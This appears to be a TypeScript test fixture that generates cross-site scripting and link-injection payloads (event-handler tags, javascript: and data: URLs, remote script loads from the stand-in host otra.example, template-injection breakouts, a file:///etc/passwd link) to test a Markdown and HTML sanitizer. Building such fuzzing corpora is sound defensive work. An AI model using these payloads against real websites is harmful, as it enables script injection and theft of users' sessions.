import naughtyStrings from 'big-list-of-naughty-strings' with { type: 'json' };

/**
 * Texts that try to run a script, break out of their element, or call another host. Generated deterministically by
 * combining the techniques of published collections. Each would call alert().
 */
const CALL = 'alert(1)';
/** A foreign host, which no request may reach. */
export const ELSEWHERE = 'otra.example';

const tags =
  'img svg video audio body iframe object embed input details marquee select textarea button a form math table style link base meta template noscript x-tag frameset image script'.split(
    ' ',
  );
const events =
  'onerror onload onclick onmouseover onfocus ontoggle onanimationstart onpointerenter onbegin onstart onpageshow onscroll onwheel oncopy'.split(
    ' ',
  );
const shapes = [
  (tag: string, event: string) => `<${tag} src=x ${event}=${CALL}>`,
  (tag: string, event: string) => `<${tag.toUpperCase()}/autofocus/${event} = "${CALL}"//`,
  (tag: string, event: string) => `"><${tag} tabindex=1 ${event.replace('on', 'oN')}='${CALL}'>`,
  (tag: string, event: string) => `<${tag}\n  src=//${ELSEWHERE}/a\t${event}=&#97;lert(1)>x</${tag}>`,
];
const elements = tags.flatMap((tag) => events.flatMap((event) => shapes.map((shape) => shape(tag, event))));

const addresses = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61vascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `\u0001javascript:${CALL}`,
  `%6Aavascript:${CALL}`,
  `javascript://%0a${CALL}`,
  `javascript:/*--></title></style>*/${CALL}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'blob:https://otra.example/x',
  'file:///etc/passwd',
  'filesystem:https://otra.example/x',
  'view-source:javascript:alert(1)',
  'jar:https://otra.example!/x',
  'feed:javascript:alert(1)',
  `//${ELSEWHERE}/x`,
  `/\\${ELSEWHERE}/x`,
  `\\\\${ELSEWHERE}\\x`,
  `https:${ELSEWHERE}`,
  `https://localhost@${ELSEWHERE}/x`,
  `https://${ELSEWHERE}/x.png`,
];
const places = [
  (to: string) => `[enlace](${to})`,
  (to: string) => `[enlace](<${to}>)`,
  (to: string) => `[enlace](${to} "x\\" onmouseover=${CALL}")`,
  (to: string) => `<${to}>`,
  (to: string) => `![imagen](${to})`,
  (to: string) => `![imagen](<${to}> "título")`,
  (to: string) => `[![imagen](${to})](${to})`,
  (to: string) => `[enlace][a]\n\n[a]: ${to}`,
  (to: string) => `nota[^a]\n\n[^a]: [enlace](${to})`,
  (to: string) => `| a |\n|---|\n| [enlace](${to}) ![imagen](${to}) |`,
  (to: string) => `<a href="${to}">enlace</a>`,
  (to: string) => `<form action="${to}"><button formaction='${to}'>x</button></form>`,
  (to: string) => `<object data="${to}"></object><embed src="${to}"><iframe src="${to}"></iframe>`,
];
const links = addresses.flatMap((to) => places.map((place) => place(to)));

const ways = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<base href=//${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/">`,
];
const exits = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  '<!--',
  '<![CDATA[',
  '\\"></script>',
  '{"@context":"</script>',
  '\u2028',
  '\\u003c/script>',
  '%3C/script%3E',
  '${',
  '{{constructor.constructor("alert(1)")()}}',
  '<%=',
  '{% raw %}',
  '```',
  '~~~js onload=alert(1)\n',
  '# ',
  '# a {onclick=alert(1)}\n',
  '- [x] ',
  '$$',
];
const breakouts = exits.flatMap((exit) => ways.map((way) => `${exit}${way}`));

/** Whole texts of an article. */
export const texts: readonly string[] = [...elements, ...links, ...breakouts, ...naughtyStrings];

/** Short texts for single-line fields: all breakouts, and a sample of the rest. */
export const lines: readonly string[] = [
  ...breakouts,
  ...elements.filter((_, index) => index % 11 === 0),
  ...naughtyStrings.filter((text) => /[<>"'`]|script|alert/i.test(text)),
].map((text) => text.replaceAll(/[\n\r\t\u2028]/g, ' '));

export const hostileAddresses: readonly string[] = addresses;
